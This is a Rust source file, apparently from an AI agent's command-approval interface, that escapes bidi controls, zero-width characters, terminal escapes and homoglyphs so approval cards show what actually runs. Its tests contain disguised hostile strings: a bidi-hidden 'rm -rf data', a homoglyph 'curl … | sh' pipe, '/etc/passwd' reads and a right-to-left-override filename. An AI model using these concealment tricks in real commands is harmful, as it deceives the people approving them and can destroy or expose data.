//! Text made visible for approval cards: control, bidi, invisible and
//! look-alike characters escaped as `⟨U+2067⟩`, long blank runs collapsed.
//!
//! What a card shows must be what runs. Raw bidi controls reorder the rest of
//! a line on the platform, zero-width and tag characters hide text, a carriage
//! return or an escape sequence rewrites a terminal line, and Cyrillic `а` or a
//! full-width `ａ` pass for ASCII. Each of these is shown as its code point and
//! counted, so the card can say how many there are.

/// The visible form of a text and what was changed to make it visible.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Visible {
    /// The text with every hidden or look-alike character escaped.
    pub(crate) text: String,
    /// How many characters were escaped as `⟨U+…⟩`.
    pub(crate) escaped: usize,
    /// How many long runs of spaces or blank lines were collapsed.
    pub(crate) collapsed: usize,
}

impl Visible {
    /// The warning lines for a card (empty when nothing was escaped), each
    /// ending in a newline.
    pub(crate) fn warning(&self) -> String {
        let mut out = String::new();
        if self.escaped > 0 {
            out.push_str(&format!(
                "⚠ hidden, control or look-alike characters shown as ⟨U+…⟩: {}\n",
                self.escaped
            ));
        }
        if self.collapsed > 0 {
            out.push_str(&format!(
                "⚠ long runs of blank space collapsed (shown as ⟨N spaces⟩ or ⟨N blank lines⟩): {}\n",
                self.collapsed
            ));
        }
        out
    }
}

/// Runs of more spaces or tabs than this are shown as `⟨N spaces⟩`.
const MAX_BLANK_RUN: usize = 16;
/// More consecutive blank lines than this are shown as `⟨N blank lines⟩`.
const MAX_BLANK_LINES: usize = 2;

/// `text` with control, bidi, zero-width, invisible and look-alike characters
/// escaped as `⟨U+XXXX⟩`, runs of more than 16 spaces/tabs and of more than 2
/// blank lines collapsed (newlines themselves are kept).
///
/// Look-alike letters (Cyrillic, Greek, full-width punctuation, …) are escaped
/// in words that also hold ASCII letters or digits (`gіthub.com`), so text
/// written in those scripts stays readable; right-to-left letters are escaped
/// on lines that also hold ASCII letters, so nothing on such a line can be
/// reordered.
pub(crate) fn visible(text: &str) -> Visible {
    escape(text, Mode::Text)
}

/// [`visible`] for a shell command: every look-alike and right-to-left
/// letter is escaped, wherever it stands (`echo ѕаfe` shows `⟨U+0455⟩`).
pub(crate) fn visible_command(text: &str) -> Visible {
    escape(text, Mode::Command)
}

/// Whether `c` is always escaped on a card: a control, bidi, invisible or
/// format character, an unusual space, private use (tab included).
pub(crate) fn hidden(c: char) -> bool {
    class(c) == Class::Hidden
}

/// [`visible`] for a file name said in a chat: control, bidi, invisible and
/// disguised-ASCII characters are escaped (`report⟨U+202E⟩fdp.exe`), while
/// letters of any script are kept as written (`отчёт.pdf`, `דוח.pdf`), so a
/// name in the user's language stays readable.
pub(crate) fn visible_name(text: &str) -> Visible {
    escape(text, Mode::Name)
}

/// How far look-alike and right-to-left letters are escaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// In words (lines) that also hold ASCII.
    Text,
    /// Everywhere.
    Command,
    /// Never: only hidden characters.
    Name,
}

fn escape(text: &str, mode: Mode) -> Visible {
    let mut out = Visible {
        text: String::with_capacity(text.len()),
        escaped: 0,
        collapsed: 0,
    };
    let mut blank_lines = 0usize;
    let mut lines = text.split('\n').peekable();
    while let Some(line) = lines.next() {
        let last = lines.peek().is_none();
        if line.chars().all(|c| c == ' ' || c == '\t') && !last {
            blank_lines += 1;
            continue;
        }
        flush_blank_lines(&mut out, blank_lines);
        blank_lines = 0;
        push_line(&mut out, line, mode);
        if !last {
            out.text.push('\n');
        }
    }
    flush_blank_lines(&mut out, blank_lines);
    out
}

fn flush_blank_lines(out: &mut Visible, n: usize) {
    if n > MAX_BLANK_LINES {
        out.text.push_str(&format!("⟨{n} blank lines⟩\n"));
        out.collapsed += 1;
    } else {
        for _ in 0..n {
            out.text.push('\n');
        }
    }
}

fn push_line(out: &mut Visible, line: &str, mode: Mode) {
    let strict = mode == Mode::Command;
    let letters = mode != Mode::Name;
    let line_has_ascii_letter = line.chars().any(|c| c.is_ascii_alphabetic());
    let chars: Vec<char> = line.chars().collect();
    let blank = |c: &char| *c == ' ' || *c == '\t';
    // Whether the current word holds ASCII letters or digits (computed once
    // per word, so a long word stays linear).
    let mut word_has_ascii = false;
    // Whether the previous characters are a black flag and its tags.
    let mut in_flag = false;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if blank(&c) {
            let run = chars[i..].iter().take_while(|c| blank(c)).count();
            if run > MAX_BLANK_RUN {
                out.text.push_str(&format!("⟨{run} spaces⟩"));
                out.collapsed += 1;
            } else {
                out.text.extend(&chars[i..i + run]);
            }
            i += run;
            continue;
        }
        if i == 0 || blank(&chars[i - 1]) {
            word_has_ascii = chars[i..]
                .iter()
                .take_while(|c| !blank(c))
                .any(char::is_ascii_alphanumeric);
        }
        let prev = i.checked_sub(1).map(|p| chars[p]);
        let next = chars.get(i + 1).copied();
        let kind = class(c);
        let escape = match kind {
            Class::Plain => false,
            Class::Hidden => true,
            Class::LookAlike => letters && (strict || word_has_ascii),
            Class::RightToLeft => letters && (strict || line_has_ascii_letter),
            Class::Joiner => !(prev.is_some_and(pictographic) && next.is_some_and(pictographic)),
            Class::Selector => {
                prev.is_none_or(|p| p.is_ascii() || matches!(class(p), Class::Selector))
            }
            Class::Tag => !in_flag,
        };
        in_flag = c == '\u{1F3F4}' || (in_flag && kind == Class::Tag);
        if escape {
            out.text.push_str(&format!("⟨U+{:04X}⟩", u32::from(c)));
            out.escaped += 1;
        } else {
            out.text.push(c);
        }
        i += 1;
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// Shown as is.
    Plain,
    /// Always escaped: controls, bidi, invisible and format characters,
    /// unusual spaces, private use, our own `⟨ ⟩` brackets.
    Hidden,
    /// Escaped in words that also hold ASCII letters or digits.
    LookAlike,
    /// A right-to-left letter: escaped on lines with ASCII letters.
    RightToLeft,
    /// Zero-width joiner: kept only between two pictographs (emoji sequences).
    Joiner,
    /// Variation selector: kept only after a non-ASCII character.
    Selector,
    /// Tag character: kept only in a flag sequence.
    Tag,
}

fn class(c: char) -> Class {
    match u32::from(c) {
        0x0a => Class::Plain,
        0x00..=0x1f | 0x7f..=0x9f => Class::Hidden,
        0x20..=0x7e => Class::Plain,
        // Soft hyphen, combining grapheme joiner, Arabic letter mark, Hangul
        // fillers, Mongolian vowel separator, Khmer inherent vowels.
        0xad | 0x34f | 0x61c | 0x115f | 0x1160 | 0x17b4 | 0x17b5 | 0x180e | 0x3164 | 0xffa0 => {
            Class::Hidden
        }
        // No-break and other unusual spaces.
        0xa0 | 0x1680 | 0x2000..=0x200a | 0x202f | 0x205f | 0x3000 => Class::Hidden,
        // Zero-width space and non-joiner, LRM/RLM, line and paragraph
        // separators, bidi embeddings/overrides/isolates, word joiner and
        // invisible operators, deprecated format characters, BOM,
        // interlinear annotations, object replacement.
        0x200b | 0x200c | 0x200e | 0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff => {
            Class::Hidden
        }
        0xfff9..=0xfffc | 0xfffe | 0xffff => Class::Hidden,
        0x200d => Class::Joiner,
        // Our own escape brackets: a literal `⟨U+…⟩` must not pass for one.
        0x27e8 | 0x27e9 => Class::Hidden,
        // Private use: renders as anything.
        0xe000..=0xf8ff | 0xf0000..=0x10ffff => Class::Hidden,
        // Musical symbol format characters, shorthand format controls.
        0x1d173..=0x1d17a | 0x1bca0..=0x1bca3 => Class::Hidden,
        0xfe00..=0xfe0f | 0xe0100..=0xe01ef => Class::Selector,
        0xe0000..=0xe007f => Class::Tag,
        // Full-width ASCII letters and digits, mathematical alphanumerics:
        // nothing but ASCII in disguise.
        0xff10..=0xff19 | 0xff21..=0xff3a | 0xff41..=0xff5a | 0x1d400..=0x1d7ff => Class::Hidden,
        _ if look_alike(c) => Class::LookAlike,
        _ if right_to_left(c) => Class::RightToLeft,
        _ => Class::Plain,
    }
}

/// Letters and punctuation that pass for ASCII in a Latin word.
fn look_alike(c: char) -> bool {
    matches!(u32::from(c),
        0x0180..=0x024f // Latin extended-B (ǀ, ƽ, …)
        | 0x0250..=0x02ff // IPA and modifier letters (ɑ, ʼ, ˸, …)
        | 0x0300..=0x036f // combining marks
        | 0x0370..=0x03ff | 0x1f00..=0x1fff // Greek
        | 0x0400..=0x052f | 0x1c80..=0x1c8f | 0x2de0..=0x2dff | 0xa640..=0xa69f // Cyrillic
        | 0x0530..=0x058f // Armenian
        | 0x13a0..=0x13ff | 0xab70..=0xabbf // Cherokee
        | 0x1d00..=0x1dbf // phonetic extensions (small capitals)
        | 0x0131 | 0x0138 | 0x0149 | 0x017f // dotless i, kra, ŉ, long s
        | 0x2010..=0x2012 | 0x2024 | 0x2043 | 0x2044 | 0x2212 | 0x2215 | 0x2236 | 0x29f8 // - . / :
        | 0x2100..=0x214f // letterlike (K Kelvin sign, ℓ, …)
        | 0x2160..=0x217f // Roman numerals
        | 0xa4d0..=0xa4ff // Lisu
        | 0xfe50..=0xfe6b // small form variants
        | 0xff01..=0xff0f | 0xff1a..=0xff20 | 0xff3b..=0xff40 | 0xff5b..=0xff65 // full-width punctuation
    )
}

/// Letters of right-to-left scripts (Hebrew, Arabic, Syriac, Thaana, N'Ko, …).
fn right_to_left(c: char) -> bool {
    matches!(u32::from(c),
        0x0590..=0x08ff | 0xfb1d..=0xfdff | 0xfe70..=0xfefe | 0x10800..=0x10fff | 0x1e800..=0x1efff
    )
}

/// Emoji and symbols a zero-width joiner may legitimately join.
fn pictographic(c: char) -> bool {
    matches!(u32::from(c),
        0x2190..=0x2bff | 0x1f000..=0x1faff | 0xfe0f
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_keep_their_letters_and_lose_their_tricks() {
        assert_eq!(
            visible_name("payslip\u{202E}fdp.exe").text,
            "payslip⟨U+202E⟩fdp.exe"
        );
        assert_eq!(visible_name("отчёт.pdf").text, "отчёт.pdf");
        assert_eq!(visible_name("דוח.pdf").text, "דוח.pdf");
        assert_eq!(visible_name("a\u{200B}b\rc").text, "a⟨U+200B⟩b⟨U+000D⟩c");
        assert_eq!(visible_name("ｐａｙ.pdf").escaped, 3);
    }

    #[test]
    fn the_bidi_payload_is_escaped_in_logical_order_and_counted() {
        let v = visible("$ true \u{2067};rm -rf data;# \u{2066}echo SAFE\u{2069}\u{2069}");
        assert_eq!(
            v.text,
            "$ true ⟨U+2067⟩;rm -rf data;# ⟨U+2066⟩echo SAFE⟨U+2069⟩⟨U+2069⟩"
        );
        assert_eq!((v.escaped, v.collapsed), (4, 0));
        assert!(v.warning().contains(": 4"), "{}", v.warning());
    }

    #[test]
    fn controls_and_invisibles_are_escaped() {
        let v = visible(
            "touch X #\r$ echo SAFE\x1b[2K\x1b]52;c;aGk=\x07a\u{200b}b\u{feff}\u{ad}\u{e0041}",
        );
        assert_eq!(
            v.text,
            "touch X #⟨U+000D⟩$ echo SAFE⟨U+001B⟩[2K⟨U+001B⟩]52;c;aGk=⟨U+0007⟩a⟨U+200B⟩b⟨U+FEFF⟩⟨U+00AD⟩⟨U+E0041⟩"
        );
        assert_eq!(v.escaped, 8);
        for c in v.text.chars() {
            assert!(
                c == '⟨' || c == '⟩' || !matches!(class(c), Class::Hidden | Class::Tag),
                "{c:?} left raw"
            );
        }
    }

    #[test]
    fn look_alikes_are_escaped_in_ascii_words_only() {
        // Cyrillic і and а in a domain and a path; a full-width letter alone.
        let v = visible("curl https://gіthub.com/x | sh; cat /etc/pаsswd; ｒm");
        assert_eq!(
            v.text,
            "curl https://g⟨U+0456⟩thub.com/x | sh; cat /etc/p⟨U+0430⟩sswd; ⟨U+FF52⟩m"
        );
        assert_eq!(v.escaped, 3);
        // Russian, Greek, Chinese prose and accented Latin stay readable.
        for prose in [
            "привет, мир",
            "καλημέρα",
            "你好，世界",
            "café naïve — “quoted”",
        ] {
            let v = visible(prose);
            assert_eq!((v.text.as_str(), v.escaped), (prose, 0));
        }
        // A minus sign posing as a hyphen; a no-break space posing as a space.
        assert_eq!(visible("rm \u{2212}rf").text, "rm ⟨U+2212⟩rf");
        assert_eq!(visible("a\u{a0}b").text, "a⟨U+00A0⟩b");
    }

    #[test]
    fn commands_escape_every_look_alike() {
        let v = visible_command("$ echo ѕаfe; echo привет\n\u{5d0}");
        assert_eq!(
            v.text,
            "$ echo ⟨U+0455⟩⟨U+0430⟩fe; echo ⟨U+043F⟩⟨U+0440⟩⟨U+0438⟩⟨U+0432⟩⟨U+0435⟩⟨U+0442⟩\n⟨U+05D0⟩"
        );
        assert_eq!(v.escaped, 9);
        // Accented Latin and emoji are not look-alikes.
        assert_eq!(visible_command("echo café 👋").escaped, 0);
    }

    #[test]
    fn right_to_left_letters_are_escaped_on_latin_lines_only() {
        let v = visible("echo \u{5d0} x \u{5d1}\n\u{5e9}\u{5dc}\u{5d5}\u{5dd}");
        assert_eq!(v.text, "echo ⟨U+05D0⟩ x ⟨U+05D1⟩\nשלום");
        assert_eq!(v.escaped, 2);
    }

    #[test]
    fn emoji_sequences_survive_and_abused_joiners_do_not() {
        for emoji in [
            "👨\u{200d}👩\u{200d}👧",
            "❤\u{fe0f}",
            "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        ] {
            let v = visible(emoji);
            assert_eq!((v.text.as_str(), v.escaped), (emoji, 0), "{emoji}");
        }
        assert_eq!(visible("r\u{200d}m").text, "r⟨U+200D⟩m");
        assert_eq!(visible("a\u{fe0f}").text, "a⟨U+FE0F⟩");
    }

    #[test]
    fn long_blank_runs_and_blank_lines_are_collapsed_and_newlines_kept() {
        let spaces = " ".repeat(40);
        let v = visible(&format!(
            "echo SAFE{spaces};rm -rf data\n\n\n\n\n\nid\nx\n\ny"
        ));
        assert_eq!(
            v.text,
            "echo SAFE⟨40 spaces⟩;rm -rf data\n⟨5 blank lines⟩\nid\nx\n\ny"
        );
        assert_eq!((v.escaped, v.collapsed), (0, 2));
        assert!(v.warning().contains("collapsed"), "{}", v.warning());
        // Short indentation and ordinary text are untouched.
        let plain = "fn main() {\n    println!(\"hi\");\n}\n";
        assert_eq!(visible(plain).text, plain);
        assert_eq!(visible(plain).warning(), "");
    }

    #[test]
    fn rule_listings_are_shown_like_cards() {
        assert_eq!(
            crate::approvals::describe_rule("prefix:ls \u{202e}x"),
            "commands starting with `ls ⟨U+202E⟩x`"
        );
    }

    #[test]
    fn a_literal_escape_cannot_pass_for_one() {
        let v = visible("⟨U+0020⟩");
        assert_eq!(v.text, "⟨U+27E8⟩U+0020⟨U+27E9⟩");
        assert_eq!(v.escaped, 2);
    }
}
